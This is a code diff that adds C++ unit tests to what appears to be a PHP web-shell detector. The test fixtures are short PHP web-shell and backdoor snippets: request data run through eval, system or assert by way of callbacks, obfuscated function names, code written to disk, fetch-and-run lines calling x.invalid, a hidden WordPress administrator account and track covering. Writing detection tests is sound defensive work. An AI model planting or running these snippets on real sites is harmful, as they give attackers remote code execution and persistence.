@@ -22,6 +22,68 @@ void expect_all(std::span<const Fixture> fixtures) {
   }
 }
 
+TEST(Analysis, SeesCallbacksThatExecute) {
+  constexpr Fixture kFixtures[] = {
+      {"spread", "<?php usort(...$_GET);", "php-request-to-callback"},
+      {"ReflectionFunction",
+       "<?php $f = new ReflectionFunction('system'); $f->invokeArgs(array($_GET['c']));",
+       "php-request-to-command"},
+      {"method of ArrayObject",
+       "<?php $a = new ArrayObject(array($_REQUEST['p'] => 2)); $a->uksort('assert');",
+       "php-executing-callback"},
+      {"SQLite", "<?php $d->sqliteCreateFunction('f', $_GET['e'], 1);", "php-request-to-callback",
+       Level::suspicious},
+      {"output buffer", "<?php ob_start('assert'); echo $_REQUEST['p']; ob_end_flush();",
+       "php-executing-callback", Level::suspicious},
+      {"iterator", "<?php new CallbackFilterIterator(new ArrayIterator(array($_REQUEST['p'])), 'assert');",
+       "php-executing-callback"},
+      {"filter_var",
+       "<?php function f($s) { return eval($s); } filter_var($_POST['a'], FILTER_CALLBACK, "
+       "array('options' => 'f'));",
+       "php-request-to-eval"},
+      {"array functions fold", "<?php $a = join(array_diff(['s', 'a', 'ys', 'tem'], ['a'])); $a($_GET['c']);",
+       "php-request-to-command"},
+      {"its own comment",
+       "<?php /** marker */ class A {} $r = new ReflectionClass('A'); eval($r->getDocComment());",
+       "php-own-bytes-executed"},
+      {"globals by encoded name",
+       "<?php ${\"\\x47LOBALS\"}[\"a\"] = 'c'; ${${\"\\x47LOBALS\"}[\"a\"]} = $_POST['x']; eval(${\"c\"});",
+       "php-request-to-eval"},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, SeesWhatWritesCode) {
+  constexpr Fixture kFixtures[] = {
+      {"known code", "<?php fputs(fopen('a.php', 'w'), '<?php eval($_POST[1]); ?>');", "php-request-to-eval"},
+      {"encoded code", "<?php file_put_contents($p, base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOw=='));",
+       "php-request-to-eval"},
+      {"fetched code",
+       "<?php $h = fopen(\"$dir/up.php\", 'w'); fwrite($h, file_get_contents('http://x.invalid/a'));",
+       "php-request-to-written-code"},
+      {"written, then included", "<?php file_put_contents($t, $_GET['c']); include $t;",
+       "php-request-to-eval"},
+  };
+  expect_all(kFixtures);
+}
+
+TEST(Analysis, SeesWhatIntrudersLeave) {
+  constexpr Fixture kFixtures[] = {
+      {"an administrator for whoever asks",
+       "<?php $id = wp_create_user($_GET['u'], $_GET['p']); $u = new WP_User($id); "
+       "$u->set_role('administrator');",
+       "php-account-made"},
+      {"deletes itself, dates back", "<?php touch('./a.php', time() - 86400); unlink(__FILE__);",
+       "php-covers-tracks", Level::suspicious},
+      {"fetches a program", "<?php shell_exec('cd /tmp; wget http://x.invalid/a; chmod 777 a; ./a');",
+       "php-fetch-and-run", Level::suspicious},
+      {"a name put together in a loop",
+       "<?php $f = ''; foreach ([1, 2] as $i) { $f .= 'ab' . chr($i); } $f .= 'x'; $f($_POST['c']);",
+       "php-computed-call", Level::suspicious},
+  };
+  expect_all(kFixtures);
+}
+
 TEST(Analysis, SeesRequestDataRunAsCode) {
   constexpr Fixture kFixtures[] = {
       {"eval", "<?php eval($_POST['x']);", "php-request-to-eval"},
